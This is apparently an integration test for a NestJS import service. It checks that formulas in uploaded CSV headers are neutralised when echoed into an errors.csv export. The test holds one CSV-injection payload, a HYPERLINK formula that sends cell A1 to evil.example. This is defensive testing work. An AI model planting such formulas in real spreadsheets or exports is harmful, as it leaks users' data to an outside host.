import { INestApplication } from '@nestjs/common';
import type { ImportBatchResponse } from '@sci/shared';
import { DataSource } from 'typeorm';
import { startTestApp } from '../support/app';
import { authHeaders, signInAs } from '../support/auth';
import { testDatabases } from '../support/databases';

/** Files the product writes, opened as a spreadsheet would: no cell may be a live formula. */
describe.each(testDatabases().map((d) => [d.name, d] as const))('output safety on %s', (_name, db) => {
  let app: INestApplication;
  let baseUrl: string;
  let ds: DataSource;
  let token: string;

  beforeAll(async () => {
    const fresh = await db.fresh();
    ds = fresh.dataSource;
    ({ app, baseUrl } = await startTestApp(fresh.config, ds));
    token = (await signInAs(baseUrl, ds, { role: 'admin' })).token;
  });

  afterAll(async () => {
    await app?.close();
    if (ds?.isInitialized) await ds.destroy();
  });

  it('should neutralise a formula echoed from an uploaded header in errors.csv', async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const csv = `institution_code,decided_on,kind,reference,"${evil.replace(/"/g, '""')}"\nICBC,2025-02-30,penalty,X1,1\n`;
    const f = new FormData();
    f.append('files', new Blob([csv]), 'penalties.csv');
    const res = await fetch(`${baseUrl}/imports`, { method: 'POST', headers: authHeaders(token), body: f });
    expect(res.status).toBe(202);
    const { batchId } = (await res.json()) as { batchId: number };
    let batch: ImportBatchResponse | null = null;
    for (let i = 0; i < 300 && (!batch || batch.status === 'running'); i++) {
      await new Promise((r) => setTimeout(r, 100));
      batch = (await (await fetch(`${baseUrl}/imports/${batchId}`, { headers: authHeaders(token) })).json()) as ImportBatchResponse;
    }
    expect(batch?.status).toBe('failed');
    expect(JSON.stringify(batch?.errors)).toContain('HYPERLINK');
    const text = (await (await fetch(`${baseUrl}/imports/${batchId}/errors.csv`, { headers: authHeaders(token) })).text()).replace(/^\uFEFF/, '');
    // every field of every line: none may start with a formula character
    const fields = text
      .trim()
      .split('\n')
      .flatMap((line) => line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g) ?? [])
      .map((f) => f.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"'));
    const hits = fields.filter((f) => f.includes('HYPERLINK'));
    expect(hits.length).toBeGreaterThan(0);
    for (const f of fields) expect(f).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });
});
